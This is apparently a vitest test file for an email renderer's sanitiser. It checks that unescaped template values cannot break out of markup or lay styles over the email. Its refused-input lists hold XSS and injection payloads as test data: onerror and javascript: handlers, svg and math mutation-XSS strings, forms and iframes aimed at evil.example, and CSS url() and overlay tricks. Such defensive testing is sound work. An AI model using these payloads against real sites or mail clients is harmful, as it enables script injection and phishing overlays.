/** `{{{value}}}`: whatever a value ends in the middle of, the email after it stays the email. */
import { readFileSync } from "node:fs";
import { parse, type DefaultTreeAdapterTypes as Tree } from "parse5";
import { describe, expect, it } from "vitest";
import { renderText } from "../../src/render/render.js";
import { STYLE_PROPERTIES } from "../../src/render/html/value-style.js";
import type { Template } from "../../src/render/templates/types.js";
import { input, mail, problemsOf, refused, template } from "./fixtures.js";

const AFTER = '<p id="after">Your code is 7F2A. <a href="https://shop.example/account">Account</a> \'"</p>';
const within = (before: string, after: string) => (): Template => template(`${before}{{{v}}}${after}${AFTER}`);
const PLACES = {
  div: within("<div>", "</div>"),
  paragraph: within("<p>", "</p>"),
  cell: within("<table><tr><td>", "</td></tr></table>"),
  bold: within("<b>", "</b>"),
  condition: within("<div>{{#if v}}", "{{/if}}</div>"),
  loop: (): Template => template(`<div>{{#each w}}{{{this}}}{{/each}}</div>${AFTER}`),
  "each message": (): Template => template(`<div class="{{c}}">{{{v}}}</div>${AFTER}`),
};
const given = (v: string): ReturnType<typeof input> => input({ v, w: [v, v], c: "x" });

/** Refused: they end inside markup, or hold what may not be there. */
const REFUSED = {
  "a link cut off in its address": '<a href="https://evil.example/?',
  "a link cut off in single quotes": "<a href='https://evil.example/?",
  "a link cut off without quotes": "<a href=https://evil.example/?",
  "a link cut off before its quote": "<a href=",
  "a link cut off in its name": "<a hre",
  "a tag cut off in its name": "Hi <a",
  "an end tag cut off": "<b>x</b",
  "a picture cut off": "<img src='https://evil.example/?",
  "a comment": "<!--",
  "a comment cut off in its end": "<!-- x --",
  "Outlook's comment": "<!--[if mso]>",
  "a wrong comment": "<!x",
  "a processing instruction": "<?x",
  "a section of characters": "<![CDATA[",
  "a doctype cut off": "<!DOCTYPE html PUBLIC '",
  "a style sheet": "<style>",
  "a style sheet cut off in its text": "<style>p{background:url(https://evil.example/?",
  "a script": "<script>",
  "a text field": "<textarea>",
  "a form": "<form action=https://evil.example><input name=q>",
  "a button with an address": "<button formaction=https://evil.example>",
  "a list to choose from": "<select><option>",
  "plain text to the end": "<plaintext>",
  "an example to its end": "<xmp>",
  "no frames": "<noframes>",
  "nothing embedded": "<noembed>",
  "no script": "<noscript>",
  "a title": "<title>",
  "a frame": "<iframe src=https://evil.example>",
  "a drawing": "<svg><style><a title='</style><img src=x onerror=alert(1)>'>",
  "a formula": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "a template": "<template>",
  "a video": "<video autoplay src=https://evil.example>",
  "an object": "<object data=https://evil.example>",
  "a base": "<base href=https://evil.example>",
  "a link that runs": "<a href='java\tscript:alert(1)'>x</a>",
  "a handler": "<p onclick=alert(1)>",
};

/** Written as a browser reads them: closed where they end. */
const CLOSED = {
  "a link left open": '<a href="https://a.example/">go',
  "bold left open": "<b><i>x",
  "a table left open": "<table><tr><td>x",
  "a table with text beside its cells": "<table>x<tr><td>y",
  "end tags of the template": "x</div></td></tr></table></body></html>",
  "a body of its own": "<html><body bgcolor=red>x",
  "less than": "5 < 6 <",
  "an entity cut off": "x &am",
  quotes: "x\"'>",
};

const parents = (node: Tree.Node): string[] =>
  "parentNode" in node && node.parentNode !== null ? [node.parentNode.nodeName, ...parents(node.parentNode)] : [];
function find(node: Tree.Node): Tree.Element | null {
  if ("attrs" in node && node.attrs.some(({ name, value }) => name === "id" && value === "after")) return node;
  for (const child of "childNodes" in node ? node.childNodes : []) {
    const found = find(child);
    if (found !== null) return found;
  }
  return null;
}
const textOf = (node: Tree.Node): string => ("value" in node ? node.value : "childNodes" in node ? node.childNodes.map(textOf).join("") : "");

describe.each(Object.keys(PLACES) as (keyof typeof PLACES)[])("in a %s", (place) => {
  it.each(Object.entries(REFUSED))("refuses %s", (_, value) => {
    const reason = refused(PLACES[place](), given(value));
    expect(reason).toMatch(/^templates\/t\.hbs:4:\d+: (?:the HTML in "(?:v|this)" (?:holds|ends)|the link in href has the scheme "javascript")/);
    expect(reason).not.toContain("evil");
  });

  it.each(Object.entries(CLOSED))("closes %s", (_, value) => {
    const { html, text } = mail(PLACES[place](), given(value));
    const after = find(parse(html));
    if (after === null) throw new Error(html);
    expect(textOf(after)).toBe("Your code is 7F2A. Account '\"");
    expect(parents(after)).toEqual(["body", "html", "#document"]);
    expect(html.endsWith(`${AFTER}</body></html>`)).toBe(true);
    expect(text.endsWith("Your code is 7F2A. Account (https://shop.example/account) '\"")).toBe(true);
  });
});

it("refuses a name with an address behind it, and names neither", () => {
  expect(refused(PLACES.div(), input({ v: "Ada <ada@example.com>" }))).toBe(`templates/t.hbs:4:6: the HTML in "v" holds a tag that HTML doesn't know`);
});

it("writes rows into the table that they stand in", () => {
  const t = template("<table>{{{v}}}</table>");
  expect(mail(t, input({ v: "<tr><td>1</td></tr><tr><td>2" })).html).toContain("<table><tbody><tr><td>1</td></tr><tr><td>2</td></tr></tbody></table>");
});

/** The style that is left of a value's element. */
const styled = (tag: string, style: string): string | undefined => {
  const html = mail(
    PLACES.div(),
    input({ v: `<${tag} style="${style.replaceAll('"', "&quot;")}">${tag === "table" ? "<tr><td>x</td></tr>" : "x"}</${tag}>` }),
  ).html;
  return new RegExp(`<div><${tag}(?: style="(.*?)")?>`).exec(html)?.[1]?.replaceAll("&quot;", '"');
};

it.each([
  ["a", "POSITION : fixed;inset:0"],
  ["a", "position/**/:fixed;inset:0"],
  ["a", "p\\6fsition:fixed;inset:0"],
  ["div", "position: relative; top: 1px; z-index: 9"],
  ["div", "position:sticky"],
  ["div", "transform: translateY(-400px) scale(9); translate: 0 9px; rotate: 9deg; zoom: 9"],
  ["div", "margin: -300px 0 0"],
  ["div", "margin-top: - 300px"],
  ["div", "margin-top: calc(0px - 300px)"],
  ["div", "margin-top: var(--x); --x: 1px"],
  ["div", "margin: 0 0 0 -1e3px"],
  ["div", "background: url(https://evil.example/i.png)"],
  ["div", "background-image: image-set('x' 1x); list-style: url(x); cursor: url(x), auto"],
  ["div", "box-shadow: 0 0 0 900px red; outline: 900px solid red; text-shadow: 0 90px red"],
  ["div", "opacity: .5; filter: blur(1px); mix-blend-mode: multiply; will-change: top; clip-path: none"],
  ["div", "display: flex; display: grid; display: contents"],
  ["div", "height: 0"],
  ["div", "max-height: 0"],
  ["div", "float: left !x; display: run-in; display: flow-root"],
  ["span", "font-size: 900px"],
  ["div", "line-height: 0"],
  ["div", "line-height: 1px"],
  ["a", "padding: 900px; border: 900px solid red"],
  ["a", "text-decoration: underline 900px red; text-underline-offset: 90px"],
  ["div", "width: expression(alert(1)); behavior: url(x); -moz-binding: url(x)"],
  ["div", "mso-element: frame; mso-element-top: 0"],
  ["div", "font-family: 'a;b"],
  ["div", "animation: x 1s; transition: all 1s; columns: 2; all: unset"],
] as const)("drops what lays <%s> over the email: %s", (tag, style) => {
  expect(styled(tag, `color: red; ${style}`)).toBe("color: red");
  expect(styled(tag, style)).toBeUndefined();
});

it("drops a height and a padding by the display that holds", () => {
  expect(styled("a", "display: block; padding: 40px; display: inline")).toBe("display: block; display: inline");
  expect(styled("img", "height: 20px; width: 100%")).toBe("height: 20px; width: 100%");
  expect(
    mail(template("<table><tr>{{{v}}}</tr></table>"), input({ v: '<td style="height: 9px">x</td><td style="height: 0; display: block">x</td>' })).html,
  ).toContain('<td style="height: 9px">x</td><td style="display: block">x</td>');
});

/** What editors and tools write. */
it.each([
  ["Quill", "span", "color: rgb(230, 0, 0); background-color: #ffff00"],
  ["Quill's font", "p", "text-align: center; font-family: Georgia, serif"],
  [
    "TinyMCE's table",
    "table",
    "border-collapse: collapse; width: 100%; height: 44px; border-width: 1px; border-style: solid; margin-left: auto; margin-right: auto",
  ],
  ["TinyMCE's picture", "img", "float: left; margin: 5px 10px; border: 1px solid #cccccc; height: auto; max-width: 100%"],
  ["MJML's text", "div", "font-family: Ubuntu, Helvetica, Arial, sans-serif; font-size: 13px; line-height: 1; text-align: left; color: #000000"],
  ["MJML's table", "table", "background: #ffffff; background-color: #ffffff; width: 100%; mso-table-lspace: 0pt; mso-table-rspace: 0pt"],
  [
    "MJML's button",
    "a",
    "display: inline-block; background: #414141; font-weight: normal; line-height: 120%; margin: 0; text-decoration: none; padding: 10px 25px; mso-padding-alt: 0px; border-radius: 3px",
  ],
  ["MJML's column", "div", "font-size: 0px; direction: ltr; display: inline-block; vertical-align: top; width: 100%"],
  ["MJML's picture", "img", "border: 0; display: block; text-decoration: none; height: auto; width: 100%; font-size: 13px"],
  ["Outlook", "p", 'margin: 0cm 0cm 8.0pt 36.0pt; line-height: 107%; font-size: 11.0pt; font-family: "Calibri", sans-serif; mso-fareast-language: EN-US'],
  ["Outlook's list", "p", "mso-list: l0 level1 lfo1; mso-margin-top-alt: auto; mso-bidi-font-family: 'Times New Roman'"],
  ["Outlook's table", "table", "border: solid windowtext 1.0pt; border-left: none; padding: 0cm 5.4pt 0cm 5.4pt; mso-border-alt: solid windowtext .5pt"],
  ["code in a line", "code", "padding: 2px 4px; border: 1px solid rgba(0,0,0,.1); white-space: pre-wrap; word-break: break-word"],
] as const)("leaves what %s writes as it is", (_, tag, style) => {
  expect(styled(tag, style)).toBe(style);
});

it("has its list of properties in the docs", () => {
  const docs = readFileSync("docs/segments.md", "utf8");
  for (const property of STYLE_PROPERTIES) expect(docs).toContain(`\`${property}\``);
});

it("gives its links UTM parameters once, in HTML and text", () => {
  const links = { unsubscribeUrl: null, unsubscribeSecret: null, utm: { source: "mail" } };
  const { html, text } = mail(PLACES.div(), input({ v: '<a href="https://a.example/?b=1#c">go</a><img src="https://a.example/i.png">' }, { links }));
  expect(html).toContain('<a href="https://a.example/?b=1&amp;utm_source=mail#c">go</a><img src="https://a.example/i.png">');
  expect(text).toContain("go (https://a.example/?b=1&utm_source=mail#c)");
});

it.each([
  ["an attribute", '<p title="{{{v}}}">x</p>'],
  ["a link", '<a href="{{{v}}}">x</a>'],
  ["a comment", "<!-- {{{v}}} -->"],
  ["Outlook's comment", "<!--[if mso]>{{{v}}}<![endif]-->"],
  ["a style sheet", "<style>{{{v}}}</style>"],
  ["a title", "<title>{{{v}}}</title>"],
  ["a script", "<script>{{{v}}}</script>"],
  ["a text field", "<textarea>{{{v}}}</textarea>"],
  ["a drawing", "<svg><text>{{{v}}}</text></svg>"],
])("can't stand in %s", (_, body) => {
  expect(problemsOf({ "t.hbs": `---\nsubject: S\nlayout: none\n---\n<p>x</p>${body}` }).map((line) => line.replace(/:\d+ /, " "))).toEqual([
    "templates/t.hbs:5 template/unsafe-value",
  ]);
});

it("is text in subjects, in the preheader, in text and in JSON, where {{ }} is too", () => {
  const { subject, html } = mail(template("<p>x</p>", 'subject: "{{{v}}}"\npreheader: "{{{v}}}"'), input({ v: "<a href='https://evil.example/?" }));
  expect(subject).toBe("<a href='https://evil.example/?");
  expect(html).toContain("&lt;a href&#x3D;&#x27;https://evil.example/?");
  const json = renderText(template('{"a": "{{{v}}}"}', ""), input({ v: '", "b": "<b>' }));
  expect(json).toMatchObject({ ok: true, message: { json: { a: '", "b": "<b>' } } });
});

describe.each([
  ["a style", '<p style="color:{{v}};margin:0">x</p>'],
  ["a style sheet", "<style>p{color:{{v}} }</style><p>x</p>"],
  ["Outlook's comment", '<p>x</p><!--[if mso]><p style="color:{{v}}">x</p><![endif]-->'],
])("a value in %s", (_, body) => {
  it.each(["#1d4ed8", "rgb(29 78 216 / 50%)", "rgba(0,0,0,.5)", "red !important", "-1.5em", "Söhne, serif"])("may be %s", (v) => {
    expect(mail(template(body), input({ v })).html).toContain(v);
  });

  it.each(["red;position:fixed", "red}*{display:none", "url(https://evil.example/)", "URL (x)", "image-set('x' 1x)", "'", "x\\", "@import x", "red/*", "a:b"])(
    "may not be %s",
    (v) => {
      expect(refused(template(body), input({ v }))).toMatch(/^templates\/t\.hbs:4:\d+: "v" stands in CSS and is not a value such as/);
    },
  );
});
